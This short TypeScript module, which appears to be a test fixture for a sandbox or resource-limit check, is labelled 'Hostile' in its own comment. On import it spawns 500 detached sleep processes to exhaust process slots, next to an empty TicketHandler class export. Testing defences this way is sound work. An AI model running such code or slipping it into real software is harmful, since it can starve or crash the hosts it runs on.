// @ts-nocheck
// Hostile: starts as many processes as it can.
import { spawn } from 'node:child_process';
for (let i = 0; i < 500; i++) {
	try {
		spawn('sleep', ['30'], { detached: true, stdio: 'ignore' }).unref();
	} catch {}
}
export class TicketHandler {}
